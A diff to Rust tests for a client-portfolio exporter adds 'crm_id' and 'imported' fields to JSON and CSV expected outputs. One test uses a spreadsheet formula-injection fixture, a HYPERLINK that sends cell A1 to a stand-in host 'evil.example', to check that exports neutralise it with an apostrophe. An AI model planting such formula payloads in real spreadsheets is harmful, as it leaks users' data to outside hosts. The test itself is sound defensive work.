@@ -284,6 +284,8 @@ fn json_export_of_a_small_portfolio() {
                 "国企"
               ],
               "competitor_notes": "移动报价低10%",
+              "crm_id": null,
+              "imported": {},
               "removed": false
             },
             {
@@ -301,6 +303,8 @@ fn json_export_of_a_small_portfolio() {
               "arrears_due": null,
               "tags": [],
               "competitor_notes": "",
+              "crm_id": null,
+              "imported": {},
               "removed": true
             },
             {
@@ -318,6 +322,8 @@ fn json_export_of_a_small_portfolio() {
               "arrears_due": null,
               "tags": [],
               "competitor_notes": "",
+              "crm_id": null,
+              "imported": {},
               "removed": false
             }
           ],
@@ -468,9 +474,9 @@ fn csv_export_of_a_small_portfolio() {
         files.iter().map(|(name, text)| format!("== {name}\n{}", text.trim_start_matches('\u{feff}'))).collect();
     expect![[r#"
         == clients.csv
-        id,name,industry,tier,status,address,latitude,longitude,office_hours,contract_start,contract_end,arrears,currency,arrears_due,tags,competitor_notes
-        cl_test000001,华东电力集团,能源,A,active,上海市浦东新区世纪大道100号,31.2304,121.4737,09:00-18:00,2025-01-01,2027-12-31,12500.00,CNY,2026-04-30,重点; 国企,移动报价低10%
-        cl_test000003,Nanjing Steel,,C,active,,,,,,,,,,,
+        id,name,industry,tier,status,address,latitude,longitude,office_hours,contract_start,contract_end,arrears,currency,arrears_due,tags,competitor_notes,crm_id
+        cl_test000001,华东电力集团,能源,A,active,上海市浦东新区世纪大道100号,31.2304,121.4737,09:00-18:00,2025-01-01,2027-12-31,12500.00,CNY,2026-04-30,重点; 国企,移动报价低10%,
+        cl_test000003,Nanjing Steel,,C,active,,,,,,,,,,,,
         == contacts.csv
         id,client,name,title,key_person,phones,email,birthday,preferences,notes
         ct_test000001,cl_test000001,张伟,总经理,yes,13800000000; 021-55550000,zhang.wei@hdpower.cn,lunar:08-15,喜欢绿茶; 不喝酒,春节前拜访
@@ -561,7 +567,15 @@ fn assert_reads_back(original: &Portfolio, files: &[(String, String)]) {
     let mut fresh = Portfolio::create(&original.settings().unwrap(), ActorId::from(vec![3; 16])).unwrap();
     let mut no_new_ids = || -> ClientId { panic!("every exported row has its id") };
     let clients = parse_clients(&file("clients.csv"), &fresh, &mut no_new_ids).unwrap();
-    assert_eq!(clients, original.records::<Client>().unwrap());
+    // Read back, each client also records what the import gave each field.
+    let as_exported = |mut client: Client| {
+        client.imported.clear();
+        client
+    };
+    assert_eq!(
+        clients.added.iter().cloned().map(as_exported).collect::<Vec<_>>(),
+        original.records::<Client>().unwrap()
+    );
 
     import_clients(&mut fresh, &clients, "clients.csv").unwrap();
     let mut no_new_ids = || -> ContactId { panic!("every exported row has its id") };
@@ -599,7 +613,7 @@ fn cells_a_spreadsheet_would_run_as_formulas_are_written_behind_an_apostrophe_an
     let data_row = |wanted: &str| file(wanted).lines().nth(1).unwrap().to_string();
     assert_eq!(
         data_row("clients.csv"),
-        r#"cl_test000001,"'=HYPERLINK(""http://evil.example/?""&A1,""Pay"")",,A,active,,-22.9068,-43.1729,,,,,,,'-vip; @north,''=already quoted"#
+        r#"cl_test000001,"'=HYPERLINK(""http://evil.example/?""&A1,""Pay"")",,A,active,,-22.9068,-43.1729,,,,,,,'-vip; @north,''=already quoted,"#
     );
     assert_eq!(data_row("contacts.csv"), "ct_test000001,cl_test000001,Anna Nowak,,no,'+48 600 100 200,,'--05-17,,");
     assert_reads_back(&original, &files);
